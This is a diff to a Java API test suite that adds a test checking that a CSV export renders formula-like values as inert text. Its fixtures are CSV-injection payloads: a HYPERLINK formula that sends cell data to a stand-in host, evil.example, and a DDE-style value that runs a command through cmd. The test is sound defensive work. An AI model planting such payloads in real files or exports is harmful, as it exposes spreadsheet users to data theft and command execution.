@@ -38,6 +38,8 @@ class ResultsApiTest {
     private static final String PLATE = "PLATE-API";
     private static final String VIEWER = "Bearer " + EmbeddedPostgresTestResource.VIEWER_TOKEN;
     private static final String CURATOR = "Bearer " + EmbeddedPostgresTestResource.CURATOR_TOKEN;
+    /** A plate name a spreadsheet would run as a formula, as any producer on the line could send it. */
+    private static final String HOSTILE_PLATE = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
 
     @BeforeAll
     static void publishPlate() throws Exception {
@@ -178,6 +180,25 @@ class ResultsApiTest {
                 .endsWith(",Rods & rings");
         assertThat(lines.get(1).split(",")).hasSize(10 + 28);
         assertThat(lines.subList(1, 3)).allSatisfy(line -> assertThat(line).contains(",Cytosol,"));
+    }
+
+    @Test
+    void shouldExportCellsThatLookLikeFormulasAsText() throws Exception {
+        Classification hostile = Classification.newBuilder(
+                        Fixtures.classification("@SUM(1+1)*cmd|' /C calc'!A0", HOSTILE_PLATE, "H12", 1, 4, 0.9f,
+                                List.of(4)))
+                .setModelName("-2+3").build();
+        Sink.publish(Topics.CLASSIFICATIONS, List.of(hostile), Classification::getSampleId);
+        Sink.awaitCaughtUp(Duration.ofSeconds(60));
+
+        String csv = given().header("Authorization", VIEWER).queryParam("plate", HOSTILE_PLATE)
+                .when().get("/api/predictions.csv")
+                .then().statusCode(200).extract().asString();
+
+        List<String> lines = csv.lines().toList();
+        assertThat(lines).hasSize(2);
+        assertThat(lines.get(1)).startsWith("'@SUM(1+1)*cmd|' /C calc'!A0,"
+                + "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\",H12,1,'-2+3,1,");
     }
 
     @Test
